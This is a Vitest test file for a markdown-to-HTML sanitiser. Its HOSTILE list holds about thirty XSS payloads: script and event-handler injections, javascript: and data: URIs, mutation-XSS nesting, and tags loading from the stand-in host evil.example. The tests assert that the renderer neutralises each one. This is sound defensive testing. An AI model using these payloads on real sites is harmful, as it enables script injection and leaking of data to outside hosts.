// @vitest-environment jsdom
import { describe, expect, it } from "vitest";
import { toHtml } from "../src/lib/markdown";

const parsed = (source: string): HTMLElement => {
  const box = document.createElement("div");
  box.innerHTML = toHtml(source);
  return box;
};

const HOSTILE = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "![x](http://evil.example/p.png)",
  "![x](javascript:alert(1))",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java&#x0a;script:alert(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](vbscript:msgbox)",
  "[x](/api/clear)",
  "[x](//evil.example)",
  "<a href='javascript:alert(1)'>x</a>",
  "<svg><script>alert(1)</script></svg>",
  "<svg onload=alert(1)>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<form action=/api/clear method=post><button>x</button></form>",
  "<input autofocus onfocus=alert(1)>",
  "<style>*{display:none}</style>",
  "<p style='position:fixed;inset:0'>x</p>",
  "<base href='http://evil.example'>",
  "<meta http-equiv=refresh content='0;url=http://evil.example'>",
  "<link rel=stylesheet href=http://evil.example/x.css>",
  "<object data=http://evil.example></object>",
  "<video src=http://evil.example poster=http://evil.example></video>",
  "[x]: http://evil.example 'a\" onmouseover=\"alert(1)'\n[x]",
  "`` <img src=x onerror=alert(1)> ``",
  "```html onload=alert(1)\n<script>alert(1)</script>\n```",
  "<https://evil.example/\" onclick=\"alert(1)>",
  "<div id=app name=body class=top>x</div>",
];

describe("hostile markdown", () => {
  it.each(HOSTILE)("does nothing: %s", (source) => {
    const box = parsed(source);
    expect(box.querySelector("script,img,svg,math,iframe,form,input,button,style,base,meta,link,object,video,audio,embed")).toBeNull();
    for (const element of box.querySelectorAll("*")) {
      for (const { name, value } of element.attributes) {
        expect(name).toMatch(/^(href|class|align|start|target|rel|tabindex)$/);
        if (name === "href") expect(value).toMatch(/^(https?:\/\/|mailto:)/);
        if (name === "class") expect(value).toMatch(/^(language-|chip-image$)/);
      }
    }
  });

  it("keeps raw HTML as the text it is", () => {
    expect(parsed("a <b>c</b>").textContent).toContain("<b>c</b>");
  });

  it("shows an image as an inert chip with its host", () => {
    const chip = parsed("![plan](https://evil.example/p.png?secret=1)").querySelector(".chip-image");
    expect(chip?.textContent).toBe("image: plan (evil.example, not loaded)");
  });

  it("opens links elsewhere and tells no referrer", () => {
    const link = parsed("[docs](https://example.org/x)").querySelector("a");
    expect([link?.target, link?.rel]).toEqual(["_blank", "noopener noreferrer nofollow"]);
  });
});

describe("honest markdown", () => {
  it("has tables, lists, code and emphasis", () => {
    const box = parsed("**a** `b`\n\n| x | y |\n|---|--:|\n| 1 | 2 |\n\n- c\n\n```sql\nselect 1\n```");
    expect(box.querySelector("strong")?.textContent).toBe("a");
    expect(box.querySelectorAll("td")).toHaveLength(2);
    expect(box.querySelector("td[align=right]")?.textContent).toBe("2");
    expect(box.querySelector("code.language-sql")?.textContent).toBe("select 1\n");
  });
});
